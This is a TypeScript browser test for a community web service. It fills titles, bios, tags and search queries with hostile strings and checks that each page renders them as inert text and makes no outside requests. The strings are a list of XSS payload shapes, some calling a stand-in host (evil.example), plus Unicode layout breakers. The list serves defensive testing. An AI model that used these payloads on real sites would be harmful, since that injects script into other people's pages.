// People who try everything: hundreds of hostile strings as titles, names, bios, tags and questions. Nothing of it runs,
// the policy has nothing to refuse, and no page breaks.
import assert from 'node:assert/strict'
import test, { after } from 'node:test'
import { containBidi } from '../../../src/util/text.ts'
import { start } from '../../support/start-service.ts'
import { desktop, launch, open } from './chromium.ts'

const payloads = ['alert(1)', 'fetch("//evil.example")', "document.title='x'", 'location="javascript:alert(1)"']
/** CODE stands for each payload. */
const shapes = [
  '<script>CODE</script>',
  '</script><script>CODE</script>',
  "<img src=x onerror='CODE'>",
  `"><svg onload='CODE'>`,
  "' onmouseover='CODE' x='",
  '" autofocus onfocus="CODE" x="',
  '<iframe srcdoc="<script>CODE</script>"></iframe>',
  '<a href="javascript:CODE">x</a>',
  '</title></textarea></style><script>CODE</script>',
  '<!--<script>CODE//-->',
  '<math><mi//xlink:href="data:x,<script>CODE</script>">',
  "<details open ontoggle='CODE'>",
  "<style>@import'//evil.example';*{display:none}</style>CODE",
  '<meta http-equiv=refresh content="0;url=javascript:CODE">',
  '<base href="//evil.example/">CODE',
  '<form action="//evil.example"><button>CODE',
  "{{constructor.constructor('CODE')()}}",
  '$' + '{CODE}',
  "<svg><animate onbegin='CODE' attributeName=x dur=1s>",
  "<video><source onerror='CODE'></video>",
  '<object data="javascript:CODE"></object>',
  '<link rel=stylesheet href="//evil.example/CODE">',
  ']]><script>CODE</script>',
  '&lt;script&gt;CODE&lt;/script&gt;',
  '\\u003cscript\\u003eCODE\\u003c/script\\u003e',
  '%3Cscript%3ECODE%3C/script%3E',
  "<x onclick='CODE' tabindex=1 id=q>",
]
/** What breaks layouts rather than rules. */
const odd = [
  '\u202Eright to left for ever',
  '\u2066\u2067\u2068 isolates that never end',
  `Z${'\u0300\u0301\u0302\u0303'.repeat(15)}algo`,
  'W'.repeat(90),
  '👩‍👩‍👧‍👦'.repeat(8),
  '﷽'.repeat(20),
  'a\u200B'.repeat(40),
  '   .   ',
  'ⓗⓔⓛⓛⓞ'.repeat(10),
  'https://example.org/'.repeat(4),
]
const hostile = [...shapes.flatMap(shape => payloads.map(code => shape.replaceAll('CODE', () => code))), ...odd]
const texts = [...hostile, ...hostile.map(text => `${text} ${text}`)].map(text => text.slice(0, 100).trim())

const perCreator = 40
const records = texts.flatMap((text, i) => {
  const handle = `h${Math.floor(i / perCreator)}`
  const creation = {
    type: 'creation',
    handle,
    slug: `s${i}`,
    title: text,
    summary: text,
    description: text,
    instructions: text,
    category: `c${i % 8}`,
    tags: [`t${i % 60}`],
    kind: 'game',
    featured: i % 9 === 0,
    translations: { fr: { title: text, summary: text } },
    publishedAt: '2026-02-01T10:00:00Z',
    ...(i % perCreator === 0 ? {} : { remixOf: { handle, slug: `s${i - 1}` } }),
  }
  const labels = [
    { type: 'tag', key: `t${i % 60}`, labels: { en: text.slice(0, 80).trim() } },
    { type: 'category', slug: `c${i % 8}`, labels: { en: text.slice(0, 80).trim() } },
    { type: 'score', handle, slug: `s${i}`, player: handle, score: i, unit: text.slice(0, 20).trim() || 'x' },
  ]
  const links = [{ label: text.slice(0, 40).trim() || 'x', url: 'https://example.org/' }]
  const creator = { type: 'creator', handle, displayName: text.slice(0, 60).trim() || 'x', bio: text, links }
  return i % perCreator === 0 ? [creator, creation, ...labels] : [creation, ...labels]
})

const service = await start({ after }, { records })
const { webUrl } = service

test(`${texts.length} hostile strings are text on every page`, async () => {
  assert.ok(new Set(texts).size >= 200)
  const { page, complaints, close } = await open(await launch({ after }), desktop)
  const outside: string[] = []
  page.on('request', request => {
    if (!/^(?:http:\/\/(?:[\w-]+\.)?localhost:|data:)/.test(request.url())) outside.push(request.url())
  })
  const look = async (path: string, shown: readonly string[]) => {
    await page.goto(webUrl + path)
    assert.equal(
      await page.evaluate('document.documentElement.scrollWidth > innerWidth'),
      false,
      `${path} is too wide.`,
    )
    const body = (await page.evaluate<string>('document.body.textContent')) ?? ''
    for (const text of shown) assert.ok(body.includes(text), `${path} does not show ${text}`)
    assert.equal(await page.evaluate('document.scripts.length - document.querySelectorAll("head script").length'), 0)
  }
  for (let i = 0; i * perCreator < texts.length; i++) {
    const own = texts.slice(i * perCreator, (i + 1) * perCreator)
    // A profile shows the newest 24.
    await look(
      `/@h${i}`,
      own.slice(0, 1).map(text => text.slice(0, 60).trim()),
    )
    await look(`/@h${i}/s${i * perCreator + 3}`, own.slice(1, 4))
  }
  let next: string | null = '/community?limit=48'
  const seen = new Set<string>()
  while (next !== null) {
    await look(next, [])
    for (const title of await page.locator('h3 a').allTextContents()) seen.add(title)
    // Asked of the server: the script may already have fetched what comes next.
    const { text } = await service.web(next, { headers: { accept: 'text/html' } })
    const href: string | undefined = /rel="next" href="([^"]+)"/.exec(text)?.[1]
    next = href === undefined ? null : href.replaceAll('&amp;', '&').slice(webUrl.length)
  }
  assert.deepEqual(new Set(texts.map(containBidi)), seen)
  for (const path of ['/', '/tags', '/?locale=ar', `/community?q=${encodeURIComponent(texts[0]!)}`])
    await look(path, [])
  await service.prepare()
  for (const text of texts.slice(0, 3)) await look(`/ask?query=${encodeURIComponent(text)}`, [text])
  assert.deepEqual(outside, [])
  assert.deepEqual(complaints, [])
  await close()
})
